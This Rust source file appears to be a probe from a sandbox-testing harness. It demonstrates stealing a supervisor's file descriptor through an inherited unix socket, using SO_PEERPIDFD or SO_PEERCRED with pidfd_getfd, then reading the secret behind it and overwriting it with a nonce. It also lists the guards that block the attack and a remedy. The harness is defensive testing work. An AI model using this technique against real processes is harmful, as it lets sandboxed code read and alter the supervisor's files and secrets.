//! Steals a descriptor from the process at the other end of an inherited socket.
//!
//! SO_PEERPIDFD turns a connected unix socket into a pidfd of its peer, and
//! pidfd_getfd(2) copies any descriptor out of that process. No pid is
//! needed, so a pid namespace does not stop it: a supervisor that talks to
//! its sandbox over a socket hands out its own descriptors.
//!
//! Needs ptrace permission over the peer: a user namespace of its own denies
//! it. Not inheriting the socket leaves nothing to ask.

use std::os::fd::{AsFd as _, BorrowedFd, OwnedFd, RawFd};

use nix::sys::socket::{getsockopt, sockopt};
use nix::sys::uio::{pread, pwrite};
use nix::unistd::Pid;

use crate::{Canary, Class, Context, Guard, Need, Probe, Proof, Refusal, Stop, raw};

pub(crate) const PROBE: Probe = Probe {
    class: Class::Ptrace,
    canary: Canary::PeerSocket,
    stops: &[
        Stop {
            guards: &[Guard::UserNamespace],
            refusal: Refusal::Errno(&[libc::EPERM]),
        },
        Stop {
            guards: &[Guard::Descriptors],
            refusal: Refusal::Absent,
        },
    ],
    needs: &[Need::Kernel(6, 5)],
    proof: Proof::Code,
    claims: &["S3"],
    refs: &["pidfd_getfd(2)", "unix(7)", "selftests/pidfd/pidfd_getfd_test.c"],
    remedy: "give the sandbox a user namespace of its own, or make the supervisor undumpable",
    attempt,
};

fn attempt(cx: &mut Context) {
    let (Some(socket), Some(number)) = (cx.descriptor("peer"), cx.number("secret-fd")) else {
        return;
    };
    let by_socket = getsockopt(&socket, sockopt::PeerPidfd);
    if let Ok(peer) = cx.step("getsockopt SO_PEERPIDFD", by_socket) {
        steal(cx, "pidfd_getfd (SO_PEERPIDFD)", &peer, number);
    }
    // The older way, which a pid namespace does stop: the pid is 0 there.
    if let Some(peer) = by_credentials(cx, socket) {
        steal(cx, "pidfd_getfd (SO_PEERCRED)", &peer, number);
    }
}

fn by_credentials(cx: &Context, socket: BorrowedFd<'_>) -> Option<OwnedFd> {
    let credentials = getsockopt(&socket, sockopt::PeerCredentials);
    let pid = cx.step("getsockopt SO_PEERCRED", credentials).ok()?.pid();
    if pid <= 0 || pid == nix::unistd::getpid().as_raw() {
        return None;
    }
    cx.step("pidfd_open", raw::pidfd_open(Pid::from_raw(pid))).ok()
}

/// Copies the peer's secret descriptor, reads the secret and writes the nonce over it.
fn steal(cx: &Context, call: &str, peer: &OwnedFd, number: RawFd) {
    let Ok(stolen) = cx.attempt(call, raw::pidfd_getfd(peer.as_fd(), number)) else {
        return;
    };
    let mut secret = [0; 128];
    if let Ok(length) = cx.attempt("pread", pread(&stolen, &mut secret, 0)) {
        cx.secret(&secret[..length]);
    }
    let _ = cx.attempt("pwrite", pwrite(&stolen, cx.nonce().as_bytes(), 0));
}
